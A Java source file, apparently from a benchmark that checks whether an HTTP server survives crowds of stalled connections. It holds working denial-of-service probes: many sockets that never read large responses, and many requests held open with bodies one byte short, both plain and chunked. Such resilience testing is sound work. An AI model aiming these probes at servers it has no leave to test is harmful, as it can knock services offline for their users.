package workbook.bench.attack;

import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;

/** What many connections do together, each of which alone costs little. */
final class Crowds {

    private Crowds() {}

    /**
     * Many who do not read, and one of the largest blocks for all of them; in 1.2, one for each. They may cost a slice
     * each, and not a copy of the block.
     */
    static String stuck(Victim victim, Posts posts) throws IOException {
        boolean echo = posts.path().equals("/echo");
        if (!echo && !posts.reachesReaders()) {
            return Attack.NOT_FOR_IT;
        }
        String body = posts.body(victim.largestBody());
        String post = posts.request(victim, "Connection: close\r\nContent-Length: " + body.length()) + body;
        String get = "GET /events HTTP/1.1\r\nHost: " + victim.authority() + "\r\n\r\n";
        List<Socket> stuck = victim.stuck(victim.crowd(), echo ? post : get);
        try {
            if (!echo) {
                Victim.Reply reply = victim.sendUntilClosed(post);
                if (!reply.isTaken(1)) {
                    return "answers " + reply.statuses() + " to the POST";
                }
            }
            return Victim.haveSome(stuck) ? Attack.prompt(victim) : dead(victim, "not all got something");
        } finally {
            Victim.release(stuck);
        }
    }

    /** Bodies that are whole but for one byte, half of them chunked. Others are answered, or told to come again. */
    static String halfBodies(Victim victim, Posts posts) throws IOException {
        if (!posts.any() || victim.largestBody() == 0) {
            return Attack.NOT_FOR_IT;
        }
        String body = posts.body(victim.largestBody());
        String cut = body.substring(1);
        String sized = posts.request(victim, "Content-Length: " + body.length()) + cut;
        String chunked =
                posts.request(victim, "Transfer-Encoding: chunked") + Integer.toHexString(body.length()) + "\r\n" + cut;
        List<Socket> held = new ArrayList<>();
        try {
            held.addAll(victim.hold(victim.crowd() / 2, sized));
            held.addAll(victim.hold(victim.crowd() / 2, chunked));
            Victim.Reply reply = victim.sendUntilClosed(
                    posts.request(victim, "Connection: close\r\nContent-Length: " + body.length()) + body);
            boolean later =
                    reply.statuses().equals(List.of("503")) && reply.text().contains("Retry-After: ");
            return reply.isTaken(1) || later
                    ? Attack.prompt(victim)
                    : dead(victim, "answers " + reply.statuses() + " to the next");
        } finally {
            Victim.release(held);
        }
    }

    private static String dead(Victim victim, String otherwise) {
        return victim.answerMillis().isEmpty() ? "dead" : otherwise;
    }
}
